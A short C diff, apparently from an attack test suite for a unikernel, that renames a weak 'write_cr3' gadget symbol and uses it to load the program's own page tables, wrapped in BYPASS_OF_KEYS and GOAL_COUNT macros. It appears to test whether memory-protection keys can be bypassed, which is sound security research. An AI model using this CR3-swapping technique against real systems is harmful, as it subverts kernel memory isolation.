@@ -13,10 +13,13 @@
 }
 */
 #include "attack.h"
+// The header's own would be what is called by this name.
+#define write_cr3 header_write_cr3
 #include "processor.h"
+#undef write_cr3
 
 // The unikernel's, by one of its names. One that is unmapped after the boot is there by name only.
-void write_cr3_gadget(uint64_t value) __asm__("write_cr3") __attribute__((weak));
+void write_cr3(uint64_t value) __attribute__((weak));
 void once_write_cr3(uint64_t value) __attribute__((weak));
 
 static uint64_t tables[5 * 512];
@@ -39,7 +42,7 @@ static uint64_t own_tables(void) {
 }
 
 int main(void) {
-  BYPASS_OF_KEYS((write_cr3_gadget ? write_cr3_gadget : once_write_cr3)(own_tables()));
+  BYPASS_OF_KEYS((write_cr3 ? write_cr3 : once_write_cr3)(own_tables()));
   GOAL_COUNT();
   return 0;
 }
